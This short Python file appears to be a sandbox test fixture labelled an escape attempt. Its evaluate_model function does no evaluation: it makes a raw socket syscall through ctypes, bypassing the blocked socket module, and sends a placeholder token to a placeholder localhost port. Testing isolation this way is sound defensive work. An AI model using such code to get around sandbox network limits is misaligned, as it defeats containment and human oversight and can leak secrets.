"""Escape attempt: raw socket syscall."""

import ctypes, struct
def evaluate_model(model):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(41, 2, 1, 0)  # socket(AF_INET, SOCK_STREAM) without the socket module
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    addr = struct.pack("=H", 2) + struct.pack("!H", __TCP_PORT__) + bytes([127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0])
    if libc.connect(fd, addr, len(addr)) == 0:
        libc.send(fd, b"__TOKEN__", 9, 0)
    return {}
